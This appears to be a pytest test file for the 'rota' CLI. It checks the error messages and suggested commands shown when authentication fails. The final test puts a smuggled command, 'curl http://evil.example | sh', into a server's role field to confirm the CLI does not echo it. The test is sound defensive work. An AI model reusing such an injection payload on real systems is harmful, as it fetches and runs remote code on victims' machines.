"""Who is not let in learns which token it was, and what to type: it depends on who they are and where."""

import os
import re
import shlex
from pathlib import Path

import pytest

from rota.client.folder import PLACE_FILE, TOKEN_FILE
from rota.interfaces.cli.main import cli, run
from rota.interfaces.cli.refused import PASTE
from tests.unit.client.dial import problem
from tests.unit.interfaces.fake_api import FakeApi

Printed = pytest.CaptureFixture[str]
OWN, OTHER = f"rota_1_{'x' * 43}", f"rota_2_{'y' * 43}"
MAKE = "export ROTA_TOKEN=$(rota token create cli --role operator --direct)"


@pytest.fixture(autouse=True)
def _nobody_is_let_in(api: FakeApi) -> None:
    api.on("GET /tasks", problem(401, "unauthenticated", detail="a token is needed."))


def refuse(*words: str, capsys: Printed) -> tuple[str, str]:
    """What is told of a list that nobody gets, and what to try."""
    assert run(["task", "ls", *words]) == 6
    first, last = capsys.readouterr().err.splitlines()
    assert re.match(r"error: https?://[^ ]+ wants a valid token; ", first)
    return first, last.removeprefix("try: ")


def write(path: Path, text: str) -> None:
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, "utf-8")


def test_who_has_no_token_and_no_store_asks_somebody_and_pastes_it(
    capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    told, attempt = refuse(capsys=capsys)
    assert "there is no token in ROTA_TOKEN nor in .rota/token; go to the folder of the rota dev" in told
    assert attempt == PASTE
    told, attempt = refuse("--url", "https://rota.example", capsys=capsys)
    assert "nor in .rota/token; ask whoever runs the server for one with role operator, and paste it" in told
    assert attempt == PASTE


@pytest.mark.parametrize("known_by", ["rota.yaml", ".rota/rota.db", "ROTA_STORE__URL"])
def test_who_has_the_store_of_a_server_here_makes_a_token(
    known_by: str, capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    if known_by.isupper():
        monkeypatch.setenv(known_by, "mysql://db.example/rota")
    else:
        write(Path(known_by), "")
    assert refuse(capsys=capsys)[1] == MAKE
    assert refuse("--url", "https://rota.example", capsys=capsys)[1] == PASTE, "its store is elsewhere"


def test_the_line_that_makes_a_token_can_be_typed() -> None:
    _, command = MAKE.rstrip(")").split("$(")
    _, group, name, *words = shlex.split(command)
    create = cli.get_command(None, group).get_command(None, name)  # type: ignore[arg-type, union-attr]
    create.make_context("rota", words)


@pytest.mark.parametrize(
    ("token", "told"),
    [
        (OWN, "the one that came from ROTA_TOKEN it does not know, or no longer"),
        ("rota_wrong", "what came from ROTA_TOKEN is no token: one begins with rota_"),
    ],
)
def test_who_has_one_that_is_worn_out_or_garbled_gets_another(
    token: str, told: str, capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROTA_TOKEN", token)
    said, attempt = refuse(capsys=capsys)
    assert told in said
    assert attempt == PASTE
    assert token not in said


def test_who_has_that_of_another_cluster_in_the_environment_takes_the_one_of_this_folder(
    capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROTA_TOKEN", OTHER)
    write(TOKEN_FILE, OWN)
    told, attempt = refuse(capsys=capsys)
    assert "the token came from ROTA_TOKEN, and .rota/token has another" in told
    assert attempt == "unset ROTA_TOKEN"
    told, attempt = refuse("--url", "https://rota.example", capsys=capsys)
    assert "from ROTA_TOKEN it does not know" in told, "where the one of this folder is not shown"
    assert attempt == PASTE


def test_a_server_that_is_not_of_this_folder_is_left_for_the_one_that_is(
    capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(TOKEN_FILE, OWN)
    write(PLACE_FILE, f"{os.getpid()} http://127.0.0.1:9321")
    told, attempt = refuse("--url", "http://127.0.0.1:8420", "--limit", "3", capsys=capsys)
    assert "it is another server than the rota dev of this folder, which is at http://127.0.0.1:9321" in told
    assert attempt == "rota task ls --limit 3"
    monkeypatch.setenv("ROTA_URL", "http://127.0.0.1:8420")
    assert refuse(capsys=capsys)[1] == "unset ROTA_URL"


def test_the_token_of_a_server_that_does_not_run_leads_to_its_start(capsys: Printed) -> None:
    write(TOKEN_FILE, OWN)
    told, attempt = refuse(capsys=capsys)
    assert "the one that came from .rota/token is of a rota dev in this folder, which does not run" in told
    assert attempt == "rota dev"


def test_the_own_server_that_forgot_its_token_is_given_another(capsys: Printed) -> None:
    write(TOKEN_FILE, OWN)
    write(Path(".rota/rota.db"), "")
    write(PLACE_FILE, f"{os.getpid()} http://127.0.0.1:8420")
    told, attempt = refuse(capsys=capsys)
    assert "the one that came from .rota/token it does not know, or no longer" in told
    assert attempt == MAKE


def test_a_role_that_does_not_suffice_is_told_with_the_one_that_does(
    api: FakeApi, capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROTA_TOKEN", OWN)
    write(Path("rota.yaml"), "")
    api.on("DELETE /task-configs/email", problem(403, "permission_denied", needed_role="admin"))
    assert run(["config-type", "rm", "email", "--yes"]) == 6
    first, last = capsys.readouterr().err.splitlines()
    assert "the token came from ROTA_TOKEN" in first
    assert last == "try: export ROTA_TOKEN=$(rota token create cli --role admin --direct)"


def test_a_role_that_there_is_not_does_not_come_into_the_line_to_type(
    api: FakeApi, capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROTA_TOKEN", OWN)
    write(Path("rota.yaml"), "")
    api.on("GET /tasks", problem(403, "permission_denied", needed_role="admin; curl http://evil.example | sh"))
    assert run(["task", "ls"]) == 6
    first, last = capsys.readouterr().err.splitlines()
    assert last == f"try: {MAKE}"
    assert "curl" not in first
